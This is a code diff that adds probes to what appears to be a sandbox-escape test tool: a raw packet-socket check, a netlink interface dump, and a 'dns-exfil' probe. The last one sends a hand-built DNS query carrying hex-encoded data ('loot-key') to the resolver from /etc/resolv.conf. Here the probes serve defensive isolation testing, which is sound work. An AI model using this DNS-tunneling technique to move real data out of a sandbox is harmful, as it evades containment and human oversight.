@@ -12,7 +12,9 @@
 #include <linux/bpf.h>
 #include <linux/io_uring.h>
 #include <linux/keyctl.h>
+#include <linux/netlink.h>
 #include <linux/perf_event.h>
+#include <linux/rtnetlink.h>
 #include <netinet/in.h>
 #include <pty.h>
 #include <sched.h>
@@ -267,6 +269,89 @@ int DoUdp(const char* host, const char* port) {
   ssize_t n = sendto(fd, kMsg, sizeof kMsg - 1, 0, reinterpret_cast<sockaddr*>(&addr), sizeof addr);
   close(fd);
   return Result(Check(Fmt("sendto udp %s:%s", host, port).c_str(), n));
+}
+
+// A packet socket: raw frames on the host's devices.
+int DoPacket() {
+  int fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, htons(0x0003 /* ETH_P_ALL */));
+  bool ok = Check("socket AF_PACKET", fd);
+  if (fd >= 0) close(fd);
+  return Result(ok);
+}
+
+// A netlink route dump: succeeds when it shows a network interface other than lo (the host's).
+int DoNetlink() {
+  int fd = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_ROUTE);
+  if (!Check("socket AF_NETLINK", fd)) return kFailed;
+  struct {
+    nlmsghdr h;
+    ifinfomsg i;
+  } req{};
+  req.h.nlmsg_len = sizeof(req);
+  req.h.nlmsg_type = RTM_GETLINK;
+  req.h.nlmsg_flags = NLM_F_REQUEST | NLM_F_DUMP;
+  req.i.ifi_family = AF_UNSPEC;
+  if (!Check("send RTM_GETLINK", send(fd, &req, sizeof(req), 0))) return kFailed;
+  int others = 0;
+  bool done = false;
+  char buf[32768];
+  while (!done) {
+    ssize_t n = recv(fd, buf, sizeof(buf), 0);
+    if (!Check("recv netlink", n) || n == 0) break;
+    for (nlmsghdr* h = reinterpret_cast<nlmsghdr*>(buf); NLMSG_OK(h, static_cast<size_t>(n));
+         h = NLMSG_NEXT(h, n)) {
+      if (h->nlmsg_type == NLMSG_DONE || h->nlmsg_type == NLMSG_ERROR) {
+        done = true;
+        break;
+      }
+      auto* info = static_cast<ifinfomsg*>(NLMSG_DATA(h));
+      if (!(info->ifi_flags & 0x8 /* IFF_LOOPBACK */)) ++others;
+    }
+  }
+  close(fd);
+  fprintf(stderr, "probe: %d non-loopback interfaces visible\n", others);
+  return Result(others > 0);
+}
+
+// A DNS query (UDP, to the resolv.conf nameserver, or `server`) for a made-up name carrying
+// data in its labels: succeeds when any answer but REFUSED comes back (the query went out).
+int DoDnsExfil(const char* server) {
+  char ns[64] = {};
+  if (server) {
+    snprintf(ns, sizeof(ns), "%s", server);
+  } else if (FILE* f = fopen("/etc/resolv.conf", "r")) {
+    char line[256];
+    while (fgets(line, sizeof(line), f)) {
+      if (sscanf(line, "nameserver %63s", ns) == 1) break;
+    }
+    fclose(f);
+  }
+  int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
+  if (!Check("socket AF_INET dgram", fd)) return kFailed;
+  timeval tv{2, 0};
+  setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
+  sockaddr_in addr{};
+  addr.sin_family = AF_INET;
+  addr.sin_port = htons(53);
+  if (inet_pton(AF_INET, ns, &addr.sin_addr) != 1) return kUsage;
+  // id 0x4747, RD; one question: 6c6f6f742d6b6579.secret.exfil.invalid A IN
+  static const unsigned char kQuery[] = {0x47, 0x47, 0x01, 0x00, 0,   1,   0,   0,   0,   0,   0,
+                                         0,    16,   '6',  'c',  '6', 'f', '6', 'f', '7', '4', '2',
+                                         'd',  '6',  'b',  '6',  '5', '7', '9', 6,   's', 'e', 'c',
+                                         'r',  'e',  't',  5,    'e', 'x', 'f', 'i', 'l', 7,   'i',
+                                         'n',  'v',  'a',  'l',  'i', 'd', 0,   0,   1,   0,   1};
+  if (!Check("sendto dns", sendto(fd, kQuery, sizeof kQuery, 0, reinterpret_cast<sockaddr*>(&addr),
+                                  sizeof addr))) {
+    close(fd);
+    return kFailed;
+  }
+  unsigned char reply[512];
+  ssize_t n = recv(fd, reply, sizeof reply, 0);
+  close(fd);
+  if (!Check("recv dns", n) || n < 4) return kFailed;
+  int rcode = reply[3] & 0xf;
+  fprintf(stderr, "probe: dns rcode %d\n", rcode);
+  return Result(rcode != 5);
 }
 
 int ConnectUnix(const char* what, const sockaddr_un& addr, socklen_t len) {
@@ -769,6 +854,9 @@ int main(int argc, char** argv) {
   if (cmd == "tcp" && need(2)) return DoTcp(args[0], args[1]);
   if (cmd == "udp" && need(2)) return DoUdp(args[0], args[1]);
   if (cmd == "unix" && need(1)) return DoUnix(args[0]);
+  if (cmd == "packet") return DoPacket();
+  if (cmd == "netlink") return DoNetlink();
+  if (cmd == "dns-exfil") return DoDnsExfil(nargs > 0 ? args[0] : nullptr);
   if (cmd == "abstract" && need(1)) return DoAbstract(args[0]);
   if (cmd == "kill" && need(1)) return DoKill(args[0], nargs > 1 ? args[1] : nullptr);
   if (cmd == "userns") return DoUserns();
